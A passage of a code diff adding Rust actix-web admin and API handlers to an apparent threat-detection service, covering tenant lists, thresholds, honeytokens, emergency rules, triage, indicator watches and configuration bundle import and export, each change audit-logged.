+            conditional::RULES_MAX_AGE_SECS,
+            &tenant.lists,
+        )),
+        None => Ok(HttpResponse::NotFound().json(error_body("Unknown tenant"))),
+    }
+}
+
+/// Admin: replace one of a tenant's lists, persisting it to the tenant's list file
+async fn put_tenant_list(
+    http_req: HttpRequest,
+    path: web::Path<(String, String)>,
+    entries: web::Json<Vec<String>>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    let (tenant_id, list_name) = path.into_inner();
+    let entries: Vec<String> = entries
+        .into_inner()
+        .into_iter()
+        .map(|e| e.trim().to_string())
+        .filter(|e| !e.is_empty())
+        .collect();
+    let count = entries.len();
+    let mut previous = 0;
+    
+    match state.update_tenant_list(&tenant_id, &list_name, |list| previous = std::mem::replace(list, entries).len()) {
+        Ok(lists) => {
+            state.audit.record("tenant_list.update", &actor(&http_req), serde_json::json!({
+                "tenant": tenant_id.to_lowercase(),
+                "list": list_name,
+                "previous_entries": previous,
+                "entries": count,
+            }));
+            Ok(HttpResponse::Ok().json(&lists))
+        }
+        Err(ListUpdateError::UnknownTenant) => Ok(HttpResponse::NotFound().json(error_body("Unknown tenant"))),
+        Err(ListUpdateError::UnknownList) => Ok(HttpResponse::NotFound().json(error_body("Unknown list"))),
+        Err(ListUpdateError::Persist) => Ok(HttpResponse::InternalServerError().json(error_body("Failed to persist list"))),
+    }
+}
+
+/// Why a tenant list could not be changed
+#[derive(Debug)]
+enum ListUpdateError {
+    UnknownTenant,
+    UnknownList,
+    Persist,
+}
+
+#[derive(Debug, Serialize)]
+struct ThresholdsView {
+    threat_type: String,
+    current: Thresholds,
+    default: Thresholds,
+    rules_generation: u64,
+}
+
+/// Effective settings and any active fault injection
+async fn get_config(state: web::Data<AppState>) -> HttpResponse {
+    HttpResponse::Ok().json(serde_json::json!({
+        "settings": &*state.settings,
+        "chaos": {
+            "available": chaos::AVAILABLE,
+            "active": state.chaos.active(),
+        },
+    }))
+}
+
+/// Manifest of a recent engine state, by the hash responses carry
+async fn get_engine_state(path: web::Path<String>, state: web::Data<AppState>) -> HttpResponse {
+    let hash = path.into_inner();
+    // The current state may not have been computed since the last rule change
+    let current = state.engine_state();
+    if current.engine_state_hash == hash {
+        return HttpResponse::Ok().json(&*current);
+    }
+    match state.engine_states.get(&hash) {
+        Some(manifest) => HttpResponse::Ok().json(&*manifest),
+        None => HttpResponse::NotFound().json(error_body("Unknown or expired engine state")),
+    }
+}
+
+/// Admin: promote a standby to primary, so it stops applying the old
+/// primary's stream and serves with the state it received
+async fn promote_replica(http_req: HttpRequest, state: web::Data<AppState>) -> HttpResponse {
+    let promoted_at = match state.replication.promote() {
+        Ok(at) => at,
+        Err(PromoteError::NotStandby) => return HttpResponse::Conflict().json(error_body("This instance is not a standby")),
+    };
+    warn!("Promoted to primary by {}", actor(&http_req));
+    state.audit.record("replication.promote", &actor(&http_req), serde_json::json!({ "promoted_at": promoted_at }));
+    if let Some(peer) = state.settings.replication_peer.clone() {
+        actix_rt::spawn(replicate_to_standby(state.clone(), peer));
+    }
+    HttpResponse::Ok().json(state.replication.status())
+}
+
+/// Start injecting faults (builds with the `chaos` feature only)
+async fn put_chaos(
+    http_req: HttpRequest,
+    config: web::Json<ChaosConfig>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    if !chaos::AVAILABLE {
+        return Ok(HttpResponse::NotFound().json(error_body("Fault injection is not available in this build")));
+    }
+    match state.chaos.activate(config.into_inner()) {
+        Ok(active) => {
+            warn!("Fault injection active until {}", active.expires_at);
+            state.audit.record("chaos.activate", &actor(&http_req), serde_json::json!(&active));
+            Ok(HttpResponse::Ok().json(active))
+        }
+        Err(e) => Ok(HttpResponse::UnprocessableEntity().json(error_body(&e))),
+    }
+}
+
+/// Stop injecting faults
+async fn delete_chaos(http_req: HttpRequest, state: web::Data<AppState>) -> Result<HttpResponse> {
+    if !state.chaos.deactivate() {
+        return Ok(HttpResponse::NotFound().json(error_body("No fault injection is active")));
+    }
+    state.audit.record("chaos.deactivate", &actor(&http_req), serde_json::json!({}));
+    Ok(HttpResponse::NoContent().finish())
+}
+
+/// Current and default thresholds for a threat type
+async fn get_thresholds(
+    http_req: HttpRequest,
+    path: web::Path<String>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    let threat_type = path.into_inner();
+    let thresholds = state.thresholds.read().unwrap();
+    let generation = state.rules_generation.load(Ordering::SeqCst);
+    
+    match (thresholds.get(&threat_type), state.settings.thresholds.get(&threat_type)) {
+        (Some(current), Some(default)) => Ok(conditional::json(
+            &http_req,
+            format!("rules-{}", generation),
+            conditional::RULES_MAX_AGE_SECS,
+            &ThresholdsView {
+                threat_type,
+                current: *current,
+                default: *default,
+                rules_generation: generation,
+            },
+        )),
+        _ => Ok(HttpResponse::NotFound().json(error_body("Unknown threat type"))),
+    }
+}
+
+/// Replace the thresholds for a threat type
+async fn put_thresholds(
+    http_req: HttpRequest,
+    path: web::Path<String>,
+    body: web::Json<Thresholds>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    let new = body.into_inner();
+    if let Err(e) = new.validate() {
+        return Ok(HttpResponse::BadRequest().json(error_body(&e)));
+    }
+    update_thresholds(&http_req, &path, new, "thresholds.update", &state)
+}
+
+/// Restore the configured thresholds for a threat type
+async fn reset_thresholds(
+    http_req: HttpRequest,
+    path: web::Path<String>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    match state.settings.thresholds.get(path.as_str()) {
+        Some(default) => update_thresholds(&http_req, &path, *default, "thresholds.reset", &state),
+        None => Ok(HttpResponse::NotFound().json(error_body("Unknown threat type"))),
+    }
+}
+
+fn update_thresholds(
+    http_req: &HttpRequest,
+    threat_type: &str,
+    new: Thresholds,
+    event: &str,
+    state: &AppState,
+) -> Result<HttpResponse> {
+    let mut thresholds = state.thresholds.write().unwrap();
+    let Some(current) = thresholds.get_mut(threat_type) else {
+        return Ok(HttpResponse::NotFound().json(error_body("Unknown threat type")));
+    };
+    
+    let previous = std::mem::replace(current, new);
+    drop(thresholds);
+    let generation = state.rules_changed();
+    
+    state.audit.record(event, &actor(http_req), serde_json::json!({
+        "threat_type": threat_type,
+        "previous": previous,
+        "new": new,
+        "rules_generation": generation,
+    }));
+    
+    Ok(HttpResponse::Ok().json(ThresholdsView {
+        threat_type: threat_type.to_string(),
+        current: new,
+        default: thresholds::lookup(&state.settings.thresholds, threat_type),
+        rules_generation: generation,
+    }))
+}
+
+/// Rebuild the URL blocklist off the request path, then swap it in
+async fn reload_url_blocklist(
+    http_req: HttpRequest,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    let Some(path) = state.settings.url_blocklist_path.clone() else {
+        return Ok(HttpResponse::NotFound().json(error_body("No URL blocklist configured")));
+    };
+    let fp_rate = state.settings.url_blocklist_fp_rate;
+    let start = std::time::Instant::now();
+    
+    let index = match web::block(move || BlocklistIndex::load(&path, fp_rate)).await? {
+        Ok(index) => index,
+        Err(e) => {
+            warn!("URL blocklist reload failed: {}", e);
+            // A previously loaded list stays in service; with none, the component is down
+            if state.url_blocklist.read().unwrap().is_none() {
+                state.components.mark_down("url_blocklist", e.to_string());
+            }
+            return Ok(HttpResponse::UnprocessableEntity().json(error_body(&e.to_string())));
+        }
+    };
+    
+    let details = serde_json::json!({
+        "entries": index.entries(),
+        "filter_bytes": index.memory_bytes(),
+        "load_ms": start.elapsed().as_millis() as u64,
+    });
+    *state.url_blocklist.write().unwrap() = Some(Arc::new(index));
+    state.components.mark_up("url_blocklist");
+    state.rules_changed();
+    state.audit.record("blocklist.reload", &actor(&http_req), details.clone());
+    
+    Ok(HttpResponse::Ok().json(details))
+}
+
+/// Honeytoken creation request
+#[derive(Debug, Deserialize)]
+pub struct HoneytokenRequest {
+    pub kind: TokenKind,
+    pub label: Option<String>,
+}
+
+/// Admin: generate a honeytoken
+async fn create_honeytoken(
+    http_req: HttpRequest,
+    req: web::Json<HoneytokenRequest>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    let req = req.into_inner();
+    let token = match state.honeytokens.generate(req.kind, req.label, &state.settings.honeytoken_base_url) {
+        Ok(token) => token,
+        Err(e) => {
+            warn!("Failed to persist honeytoken: {}", e);
+            return Ok(HttpResponse::InternalServerError().json(error_body("Failed to persist honeytoken")));
+        }
+    };
+    
+    state.rules_changed();
+    state.audit.record("honeytoken.create", &actor(&http_req), serde_json::json!({
+        "token_id": token.id,
+        "kind": token.kind,
+        "label": token.label,
+    }));
+    Ok(HttpResponse::Created().json(token))
+}
+
+/// Admin: list honeytokens, revoked ones included
+async fn list_honeytokens(state: web::Data<AppState>) -> Result<HttpResponse> {
+    Ok(HttpResponse::Ok().json(state.honeytokens.list()))
+}
+
+/// Admin: revoke a honeytoken so it no longer triggers
+async fn revoke_honeytoken(
+    http_req: HttpRequest,
+    path: web::Path<String>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    let id = path.into_inner();
+    match state.honeytokens.revoke(&id) {
+        Ok(true) => {
+            state.rules_changed();
+            state.audit.record("honeytoken.revoke", &actor(&http_req), serde_json::json!({ "token_id": id }));
+            Ok(HttpResponse::NoContent().finish())
+        }
+        Ok(false) => Ok(HttpResponse::NotFound().json(error_body("Unknown or already revoked honeytoken"))),
+        Err(e) => {
+            warn!("Failed to persist honeytoken revocation: {}", e);
+            Ok(HttpResponse::InternalServerError().json(error_body("Failed to persist honeytoken")))
+        }
+    }
+}
+
+/// Admin: re-read stage pipelines from configuration
+async fn reload_pipelines(
+    http_req: HttpRequest,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    let settings = match Settings::load() {
+        Ok(settings) => settings,
+        Err(e) => return Ok(HttpResponse::UnprocessableEntity().json(error_body(&e.to_string()))),
+    };
+    if let Err(e) = pipeline::validate(&settings.pipelines) {
+        return Ok(HttpResponse::UnprocessableEntity().json(error_body(&e)));
+    }
+    if let Err(e) = pipeline::validate(&settings.candidate_pipelines) {
+        return Ok(HttpResponse::UnprocessableEntity().json(error_body(&format!("candidate_{}", e))));
+    }
+    
+    let details = serde_json::json!({
+        "ruleset_version": settings.ruleset_version,
+        "pipelines": settings
+            .pipelines
+            .iter()
+            .map(|(threat_type, stages)| {
+                (threat_type.clone(), stages.iter().map(|s| s.stage.clone()).collect::<Vec<_>>())
+            })
+            .collect::<BTreeMap<_, _>>(),
+        "candidate_pipelines": settings
+            .candidate_pipelines
+            .iter()
+            .map(|(threat_type, stages)| {
+                (threat_type.clone(), stages.iter().map(|s| s.stage.clone()).collect::<Vec<_>>())
+            })
+            .collect::<BTreeMap<_, _>>(),
+    });
+    *state.candidate_pipelines.write().unwrap() = candidate_ruleset(&settings);
+    *state.pipelines.write().unwrap() = Arc::new(settings.pipelines);
+    *state.ruleset_version.write().unwrap() = settings.ruleset_version;
+    state.rules_changed();
+    state.audit.record("pipelines.reload", &actor(&http_req), details.clone());
+    
+    Ok(HttpResponse::Ok().json(details))
+}
+
+/// Put a temporary rule ahead of every pipeline
+async fn push_emergency_rule(
+    http_req: HttpRequest,
+    req: web::Json<EmergencyRuleRequest>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    let req = req.into_inner();
+    if let Some(threat_type) = req.threat_type.as_deref().filter(|t| !config::THREAT_TYPES.contains(t)) {
+        return Ok(HttpResponse::UnprocessableEntity().json(error_body(&format!("Unknown threat type {:?}", threat_type))));
+    }
+    let max_ttl = Duration::from_secs(state.settings.emergency_rule_max_ttl_secs);
+    match state.emergency.push(req, max_ttl) {
+        Ok(rule) => {
+            state.rules_changed();
+            warn!("Emergency rule {} active until {}: {:?}", rule.id, rule.expires_at, rule.pattern);
+            state.audit.record("rules.emergency.push", &actor(&http_req), serde_json::json!(&rule));
+            Ok(HttpResponse::Created().json(rule))
+        }
+        Err(e) => Ok(HttpResponse::UnprocessableEntity().json(error_body(&e))),
+    }
+}
+
+/// Every verdict the caller's tenant has for a content fingerprint, across threat types
+async fn fingerprint_history(http_req: HttpRequest, path: web::Path<String>, state: web::Data<AppState>) -> HttpResponse {
+    let Some(index) = &state.fingerprints else {
+        return HttpResponse::NotFound().json(error_body("Fingerprint index is disabled"));
+    };
+    let fingerprint = path.into_inner().to_ascii_lowercase();
+    match index.history(&tenant_id(&http_req).unwrap_or_default(), &fingerprint) {
+        Some(detections) => HttpResponse::Ok().json(serde_json::json!({
+            "fingerprint": fingerprint,
+            "detections": detections,
+        })),
+        None => HttpResponse::NotFound().json(error_body("No detections for this fingerprint")),
+    }
+}
+
+/// One of the caller's tenant's async detections, pending or with its enriched verdict
+async fn get_detection(http_req: HttpRequest, path: web::Path<String>, state: web::Data<AppState>) -> HttpResponse {
+    match state.enrichments.get(&tenant_id(&http_req).unwrap_or_default(), &path.into_inner()) {
+        Some(detection) => HttpResponse::Ok().json(detection),
+        None => HttpResponse::NotFound().json(error_body("No async detection with this id")),
+    }
+}
+
+/// Enriched verdicts of the caller's tenant's async detections as Server-Sent Events
+async fn stream_detections(http_req: HttpRequest, state: web::Data<AppState>) -> HttpResponse {
+    let tenant = tenant_id(&http_req).unwrap_or_default();
+    let events = futures::stream::unfold((state.enrichments.subscribe(), tenant), |(mut receiver, tenant)| async move {
+        loop {
+            match receiver.recv().await {
+                Ok(detection) if detection.tenant != tenant => {}
+                Ok(detection) => {
+                    let data = serde_json::to_string(&detection).unwrap_or_default();
+                    let event = web::Bytes::from(format!("event: enrichment\ndata: {}\n\n", data));
+                    return Some((Ok::<_, actix_web::Error>(event), (receiver, tenant)));
+                }
+                // A subscriber too slow to keep up misses verdicts, which stay retrievable by id
+                Err(tokio::sync::broadcast::error::RecvError::Lagged(missed)) => {
+                    debug!("SSE detection subscriber missed {} verdict(s)", missed);
+                }
+                Err(tokio::sync::broadcast::error::RecvError::Closed) => return None,
+            }
+        }
+    });
+    HttpResponse::Ok()
+        .content_type("text/event-stream")
+        .insert_header(("Cache-Control", "no-cache"))
+        .streaming(events)
+}
+
+/// Query of `GET /api/triage`
+#[derive(Debug, Deserialize)]
+struct TriageQuery {
+    /// `pending` or `resolved`; both when unset
+    state: Option<triage::State>,
+}
+
+/// The caller's tenant's triage queue, most severe first
+async fn list_triage(
+    http_req: HttpRequest,
+    query: web::Query<TriageQuery>,
+    state: web::Data<AppState>,
+) -> HttpResponse {
+    if !state.triage.enabled() {
+        return HttpResponse::NotFound().json(error_body("Triage is disabled"));
+    }
+    HttpResponse::Ok().json(state.triage.list(tenant_id(&http_req).as_deref(), query.state))
+}
+
+/// Body of `POST /api/triage/{id}/resolve`
+#[derive(Debug, Deserialize)]
+struct TriageResolution {
+    /// `threat` or `safe`
+    verdict: Verdict,
+    note: Option<String>,
+    action: Option<TriageAction>,
+}
+
+/// Rule or list entry to create from a resolution
+#[derive(Debug, Deserialize)]
+#[serde(tag = "template", rename_all = "snake_case")]
+enum TriageAction {
+    /// Add the URL's host to the tenant's blocklist
+    BlocklistHost,
+    /// Add the URL's host to the tenant's allowlist
+    AllowlistHost,
+    /// Push an emergency rule matching the URL's host, or else the content
+    EmergencyRule { ttl_secs: Option<u64> },
+}
+
+/// Longest content an emergency rule created from triage may match on
+const TRIAGE_RULE_MAX_PATTERN: usize = 256;
+
+/// Why a resolution's action could not be applied
+enum TriageActionError {
+    Invalid(String),
+    Failed(&'static str),
+}
+
+/// Create the rule or list entry a resolution asks for, returning what was created
+fn apply_triage_action(
+    http_req: &HttpRequest,
+    state: &AppState,
+    item: &triage::Item,
+    verdict: Verdict,
+    action: &TriageAction,
+) -> std::result::Result<serde_json::Value, TriageActionError> {
+    let host = (item.threat_type == "url")
+        .then(|| url::Url::parse(item.content.trim()).ok()?.host_str().map(str::to_string))
+        .flatten();
+    match action {
+        TriageAction::BlocklistHost | TriageAction::AllowlistHost => {
+            let (template, list, needs) = match action {
+                TriageAction::BlocklistHost => ("blocklist_host", "blocklist", Verdict::Threat),
+                _ => ("allowlist_host", "allowlist", Verdict::Safe),
+            };
+            if verdict != needs {
+                return Err(TriageActionError::Invalid(format!("{} needs a {:?} verdict", template, needs).to_lowercase()));
+            }
+            // Global lists come from configuration and cannot change at runtime
+            let Some(tenant) = item.tenant.as_deref() else {
+                return Err(TriageActionError::Invalid(format!("{} needs an item from a tenant's queue", template)));
+            };
+            let Some(host) = host else {
+                return Err(TriageActionError::Invalid(format!("{} needs a URL with a host", template)));
+            };
+            let entry = host.clone();
+            match state.update_tenant_list(tenant, list, |entries| {
+                if !entries.contains(&entry) {
+                    entries.push(entry);
+                }
+            }) {
+                Ok(_) => Ok(serde_json::json!({ "template": template, "tenant": tenant, "list": list, "entry": host })),
+                Err(ListUpdateError::Persist) => Err(TriageActionError::Failed("Failed to persist list")),
+                Err(_) => Err(TriageActionError::Invalid(format!("Tenant {} has no {}", tenant, list))),
+            }
+        }
+        TriageAction::EmergencyRule { ttl_secs } => {
+            if verdict != Verdict::Threat {
+                return Err(TriageActionError::Invalid("emergency_rule needs a threat verdict".to_string()));
+            }
+            let pattern = host.unwrap_or_else(|| item.content.clone());
+            if pattern.len() > TRIAGE_RULE_MAX_PATTERN {
+                return Err(TriageActionError::Invalid(format!(
+                    "Content is too long for a rule pattern ({} > {} bytes)",
+                    pattern.len(),
+                    TRIAGE_RULE_MAX_PATTERN
+                )));
+            }
+            let max_ttl = Duration::from_secs(state.settings.emergency_rule_max_ttl_secs);
+            let request = EmergencyRuleRequest {
+                threat_type: Some(item.threat_type.clone()),
+                pattern,
+                weight: 1.0,
+                reason: Some(format!("Confirmed in triage (item {})", item.id)),
+                ttl_secs: ttl_secs.unwrap_or(max_ttl.as_secs()),
+                // A tenant's reviewer only speaks for the tenant's traffic
+                tenant: item.tenant.clone(),
+            };
+            let rule = state.emergency.push(request, max_ttl).map_err(TriageActionError::Invalid)?;
+            state.rules_changed();
+            warn!("Emergency rule {} active until {}: {:?}", rule.id, rule.expires_at, rule.pattern);
+            state.audit.record("rules.emergency.push", &actor(http_req), serde_json::json!(&rule));
+            Ok(serde_json::json!({ "template": "emergency_rule", "rule": rule }))
+        }
+    }
+}
+
+/// Record a reviewer's verdict on a queued detection, apply its action,
+/// and drop the engine's cached verdict for the content
+async fn resolve_triage(
+    http_req: HttpRequest,
+    path: web::Path<String>,
+    body: web::Json<TriageResolution>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    if !state.triage.enabled() {
+        return Ok(HttpResponse::NotFound().json(error_body("Triage is disabled")));
+    }
+    let id = path.into_inner();
+    let body = body.into_inner();
+    if body.verdict == Verdict::NeedsReview {
+        return Ok(HttpResponse::UnprocessableEntity().json(error_body("verdict must be threat or safe")));
+    }
+    let tenant = tenant_id(&http_req);
+    // Claimed before its action is applied, so a concurrent resolution gets 409 and applies nothing
+    let item = match state.triage.claim(tenant.as_deref(), &id) {
+        Ok(item) => item,
+        Err(ResolveError::NotFound) => return Ok(HttpResponse::NotFound().json(error_body("Unknown triage item"))),
+        Err(ResolveError::AlreadyResolved) => {
+            return Ok(HttpResponse::Conflict().json(error_body("Triage item is already resolved")));
+        }
+    };
+    
+    let action = match body.action.as_ref().map(|a| apply_triage_action(&http_req, &state, &item, body.verdict, a)).transpose() {
+        Ok(action) => action,
+        Err(e) => {
+            state.triage.release(tenant.as_deref(), &id);
+            return Ok(match e {
+                TriageActionError::Invalid(e) => HttpResponse::UnprocessableEntity().json(error_body(&e)),
+                TriageActionError::Failed(e) => HttpResponse::InternalServerError().json(error_body(e)),
+            });
+        }
+    };
+    let resolution = triage::Resolution {
+        verdict: body.verdict,
+        note: body.note,
+        resolved_by: actor(&http_req),
+        resolved_at: state.clock.utc(),
+        action,
+    };
+    let item = match state.triage.resolve(tenant.as_deref(), &id, resolution) {
+        Ok(item) => item,
+        Err(ResolveError::NotFound) => return Ok(HttpResponse::NotFound().json(error_body("Unknown triage item"))),
+        Err(ResolveError::AlreadyResolved) => {
+            return Ok(HttpResponse::Conflict().json(error_body("Triage item is already resolved")));
+        }
+    };
+    state.lock_stats().record_review(&item.threat_type, item.verdict, body.verdict);
+    if let Some(key) = &item.cache_key {
+        state.lock_cache().pop(key);
+        state.replication.publish(|| Message::CacheEvict { key: key.clone() });
+    }
+    state.audit.record("triage.resolve", &actor(&http_req), serde_json::json!({
+        "id": item.id,
+        "tenant": item.tenant,
+        "threat_type": item.threat_type,
+        "content_hash": item.content_hash,
+        "engine_verdict": item.verdict,
+        "engine_confidence": item.confidence,
+        "resolution": item.resolution,
+    }));
+    
+    Ok(HttpResponse::Ok().json(item))
+}
+
+/// Body of `POST` and `DELETE /api/watch`
+#[derive(Debug, Deserialize)]
+struct WatchRequest {
+    indicators: Vec<watch::Indicator>,
+}
+
+/// The request's indicators in matching form, or the ones that cannot be watched
+fn watch_indicators(req: WatchRequest) -> std::result::Result<Vec<watch::Indicator>, Vec<Violation>> {
+    let mut indicators = Vec::new();
+    let mut violations = Vec::new();
+    for (i, indicator) in req.indicators.iter().enumerate() {
+        match indicator.normalized() {
+            Ok(indicator) => indicators.push(indicator),
+            Err(message) => violations.push(Violation { pointer: format!("/indicators/{}/value", i), message }),
+        }
+    }
+    if violations.is_empty() {
+        Ok(indicators)
+    } else {
+        Err(violations)
+    }
+}
+
+/// Watch indicators for verdict changes; new domains and URLs are evaluated
+/// at once, so their first verdict is the first change polls see
+async fn add_watches(
+    http_req: HttpRequest,
+    req: web::Json<WatchRequest>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    if !state.watches.enabled() {
+        return Ok(HttpResponse::NotFound().json(error_body("Watching is disabled")));
+    }
+    let indicators = match watch_indicators(req.into_inner()) {
+        Ok(indicators) => indicators,
+        Err(violations) => return Ok(invalid_request(&violations)),
+    };
+    let key = state.caller_key(&http_req);
+    let tenant = tenant_id(&http_req);
+    let added = match state.watches.register(&key, tenant.as_deref(), indicators) {
+        Ok(added) => added,
+        Err(WatchError::TooMany { max }) => {
+            return Ok(HttpResponse::UnprocessableEntity().json(error_body(&format!("At most {} indicators may be watched", max))));
+        }
+        Err(WatchError::TooManyKeys { max }) => {
+            return Ok(HttpResponse::ServiceUnavailable().json(error_body(&format!("Watch lists are full ({} clients)", max))));
+        }
+        Err(WatchError::Io(e)) => {
+            warn!("Failed to persist watch list: {}", e);
+            return Ok(HttpResponse::InternalServerError().json(error_body("Failed to persist watch list")));
+        }
+    };
+    for indicator in &added {
+        if let Some(response) = state.evaluate_watched(tenant.as_deref(), indicator) {
+            state.watches.update(&key, indicator, &response, watch::Source::Registration);
+        }
+    }
+    Ok(HttpResponse::Ok().json(serde_json::json!({
+        "added": added.len(),
+        "watching": state.watches.list(&key),
+    })))
+}
+
+/// The caller's watched indicators with their last verdicts
+async fn list_watches(http_req: HttpRequest, state: web::Data<AppState>) -> HttpResponse {
+    HttpResponse::Ok().json(state.watches.list(&state.caller_key(&http_req)))
+}
+
+async fn remove_watches(
+    http_req: HttpRequest,
+    req: web::Json<WatchRequest>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    if !state.watches.enabled() {
+        return Ok(HttpResponse::NotFound().json(error_body("Watching is disabled")));
+    }
+    let indicators = match watch_indicators(req.into_inner()) {
+        Ok(indicators) => indicators,
+        Err(violations) => return Ok(invalid_request(&violations)),
+    };
+    match state.watches.remove(&state.caller_key(&http_req), &indicators) {
+        Ok(removed) => Ok(HttpResponse::Ok().json(serde_json::json!({ "removed": removed }))),
+        Err(e) => {
+            warn!("Failed to persist watch list: {}", e);
+            Ok(HttpResponse::InternalServerError().json(error_body("Failed to persist watch list")))
+        }
+    }
+}
+
+/// Query of `GET /api/watch/poll`
+#[derive(Debug, Deserialize)]
+struct PollQuery {
+    /// `30s`, `500ms`, or seconds; capped at `watch_poll_max_secs`
+    timeout: Option<String>,
+    /// `cursor` of the previous poll; without one, only later changes are returned
+    cursor: Option<u64>,
+}
+
+/// Long-poll for changed verdicts of the caller's watched indicators,
+/// answering as soon as there is one and with none at the timeout
+async fn poll_watches(
+    http_req: HttpRequest,
+    query: web::Query<PollQuery>,
+    state: web::Data<AppState>,
+) -> Result<HttpResponse> {
+    if !state.watches.enabled() {
+        return Ok(HttpResponse::NotFound().json(error_body("Watching is disabled")));
+    }
+    let max = Duration::from_secs(state.settings.watch_poll_max_secs);
+    let timeout = match query.timeout.as_deref().map(watch::parse_timeout) {
+        None => max.min(Duration::from_secs(30)),
+        Some(Some(timeout)) => timeout.min(max),
+        Some(None) => return Ok(HttpResponse::BadRequest().json(error_body("timeout must look like 30s, 500ms or 30"))),
+    };
+    let key = state.caller_key(&http_req);
+    let cursor = query.cursor.unwrap_or_else(|| state.watches.cursor());
+    let deadline = tokio::time::Instant::now() + timeout;
+    loop {
+        // Registered before checking, so a change in between still wakes it
+        let changed = state.watches.changed();
+        let poll = state.watches.changes(&key, cursor);
+        if !poll.changes.is_empty() || poll.reset || tokio::time::timeout_at(deadline, changed).await.is_err() {
+            return Ok(HttpResponse::Ok().json(poll));
+        }
+    }
+}
+
+/// Passphrase sealing honeytokens in configuration bundles
+fn bundle_passphrase(http_req: &HttpRequest) -> Option<&str> {
+    http_req
+        .headers()
+        .get("X-Bundle-Passphrase")
+        .and_then(|v| v.to_str().ok())
+        .filter(|v| !v.is_empty())
+}
+
+/// Admin: export operator-managed configuration as one bundle; honeytokens
+/// are included, sealed, only when a passphrase is supplied
+async fn export_config(http_req: HttpRequest, state: web::Data<AppState>) -> HttpResponse {
+    let honeytokens = match bundle_passphrase(&http_req).map(|p| bundle::seal(&state.honeytokens.list(), p)) {
+        Some(Ok(sealed)) => Some(sealed),
+        Some(Err(e)) => return HttpResponse::InternalServerError().json(error_body(&e)),
+        None => None,
+    };
+    let bundle = bundle::ConfigBundle {
+        version: bundle::BUNDLE_VERSION,
+        exported_at: state.clock.utc(),
+        thresholds: state.thresholds.read().unwrap().clone(),
+        pipelines: (**state.pipelines.read().unwrap()).clone(),
+        stat_alerts: (**state.stat_alerts.read().unwrap()).clone(),
+        tenant_lists: state.tenants.read().unwrap().iter().map(|(id, t)| (id.clone(), t.lists.clone())).collect(),
+        honeytokens,
+    };
+    state.audit.record("config.export", &actor(&http_req), serde_json::json!({
+        "tenants": bundle.tenant_lists.keys().collect::<Vec<_>>(),
+        "honeytokens": bundle.honeytokens.is_some(),
+    }));
+    HttpResponse::Ok()
+        .insert_header((
+            actix_web::http::header::CONTENT_DISPOSITION,
+            format!("attachment; filename=\"amd-security-config-v{}.json\"", bundle::BUNDLE_VERSION),
+        ))
+        .json(bundle)
+}
+
+/// Admin: check a configuration bundle and apply it as a whole, or report
+/// every problem and change nothing
+async fn import_config(
+    http_req: HttpRequest,
+    body: web::Json<serde_json::Value>,
+    state: web::Data<AppState>,
+) -> HttpResponse {
+    let tenant_ids: Vec<String> = state.tenants.read().unwrap().keys().cloned().collect();
+    let plan = match bundle::check(body.into_inner(), &tenant_ids, bundle_passphrase(&http_req)) {
+        Ok(plan) => plan,
+        Err(violations) => return invalid_request(&violations),
+    };
+    let bundle = plan.bundle;
+    
+    // Every file is written aside first, and only put in place once all of
+    // them are, so a failure leaves both disk and memory untouched
+    let mut staged = Vec::new();
+    {
+        let tenants = state.tenants.read().unwrap();
+        for (id, lists) in &bundle.tenant_lists {
+            let Some(tenant) = tenants.get(id) else { continue };
+            let mut lists = lists.clone();
+            for name in tenant::LIST_NAMES {
+                let (Some(file), Some(entries)) = (tenant.settings.file_for(name), lists.list_mut(name)) else {
+                    continue;
+                };
+                match lists::stage_list_file(file, entries) {
+                    Ok(file) => staged.push(file),
+                    Err(e) => {
+                        warn!("Failed to persist {} for tenant {}: {}", name, id, e);
+                        return HttpResponse::InternalServerError().json(error_body("Failed to persist tenant lists"));
+                    }
+                }
+            }
+        }
+    }
+    let honeytoken_count = plan.honeytokens.as_ref().map(Vec::len);
+    if let Some(tokens) = &plan.honeytokens {
+        match state.honeytokens.stage(tokens) {
+            Ok(file) => staged.push(file),
+            Err(e) => {
+                warn!("Failed to persist imported honeytokens: {}", e);
+                return HttpResponse::InternalServerError().json(error_body("Failed to persist honeytokens"));
+            }
+        }
+    }
+    for file in staged {
+        if let Err(e) = file.commit() {
+            warn!("Failed to put imported configuration in place: {}", e);
+            return HttpResponse::InternalServerError().json(error_body("Failed to persist imported configuration"));
+        }
+    }
+    if let Some(tokens) = plan.honeytokens {
+        state.honeytokens.install(tokens);
+    }
+    
+    // Swap everything under all the write locks, so no detection sees half a
+    // bundle; taken in the order detections read them, tenants first
+    let generation = {
+        let mut tenants = state.tenants.write().unwrap();
+        let mut thresholds = state.thresholds.write().unwrap();
+        let mut pipelines = state.pipelines.write().unwrap();
+        let mut stat_alerts = state.stat_alerts.write().unwrap();
+        *thresholds = bundle.thresholds.clone();
+        *pipelines = Arc::new(bundle.pipelines.clone());
+        *stat_alerts = Arc::new(bundle.stat_alerts.clone());
+        for (id, lists) in &bundle.tenant_lists {
+            if let Some(tenant) = tenants.get_mut(id) {
+                tenant.lists = lists.clone();
+                tenant.generation += 1;
+            }
+        }
+        state.rules_generation.fetch_add(1, Ordering::SeqCst) + 1
+    };
+    state.refresh_engine_state();
+    
+    let details = serde_json::json!({
+        "exported_at": bundle.exported_at,
+        "thresholds": bundle.thresholds.keys().collect::<Vec<_>>(),
+        "pipelines": bundle.pipelines.keys().collect::<Vec<_>>(),
+        "stat_alerts": bundle.stat_alerts.len(),
+        "tenants": bundle.tenant_lists.keys().collect::<Vec<_>>(),
+        "honeytokens": honeytoken_count,
+        "rules_generation": generation,
+    });
+    state.audit.record("config.import", &actor(&http_req), details.clone());
+    HttpResponse::Ok().json(details)
+}
+
+/// Admin: indicators escalated for recurring weak signals, newest first
+async fn list_escalated_indicators(state: web::Data<AppState>) -> HttpResponse {
+    state.expire_temporary_rules();
